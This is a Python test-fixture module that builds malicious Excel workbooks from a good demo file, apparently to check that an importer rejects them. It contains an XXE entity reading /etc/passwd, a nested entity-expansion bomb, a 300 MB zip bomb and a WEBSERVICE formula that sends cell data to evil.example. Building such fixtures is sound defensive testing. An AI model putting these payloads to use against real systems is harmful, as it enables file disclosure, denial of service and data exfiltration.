"""Workbooks that nobody sends by mistake."""

from __future__ import annotations

import zipfile
from io import BytesIO

from tenor_customers.demo_files import zeyuan_workbook

ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    b"<worksheet><sheetData><row><c><v>&a;</v></c></row></sheetData></worksheet>"
)
LAUGHS = (
    b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'
    b"<worksheet>&c;</worksheet>"
)


def repacked(
    replace: dict[str, bytes] | None = None, more: dict[str, bytes] | None = None
) -> bytes:
    """The good workbook with other bytes in some parts, and with more parts."""
    made = BytesIO()
    with (
        zipfile.ZipFile(BytesIO(zeyuan_workbook())) as good,
        zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as other,
    ):
        for member in good.infolist():
            other.writestr(member.filename, (replace or {}).get(member.filename, good.read(member)))
        for name, content in (more or {}).items():
            other.writestr(name, content)
    return made.getvalue()


def bomb() -> bytes:
    """A few hundred kilobytes that would be half a gigabyte."""
    made = BytesIO(repacked())
    with (
        zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("xl/z", "w", force_zip64=True) as part,
    ):
        for _ in range(300):
            part.write(bytes(1024 * 1024))
    return made.getvalue()


def formulas() -> bytes:
    """The good workbook, whose first figure reaches out and was never computed."""
    from openpyxl import load_workbook

    book = load_workbook(BytesIO(zeyuan_workbook()))
    sheet = book.worksheets[0]
    cell = next(
        one
        for row in sheet.iter_rows()
        for one in row
        if isinstance(one.value, (int, float)) and one.row > 2
    )
    cell.value = '=WEBSERVICE("http://evil.example/"&A1)'
    made = BytesIO()
    book.save(made)
    return made.getvalue()
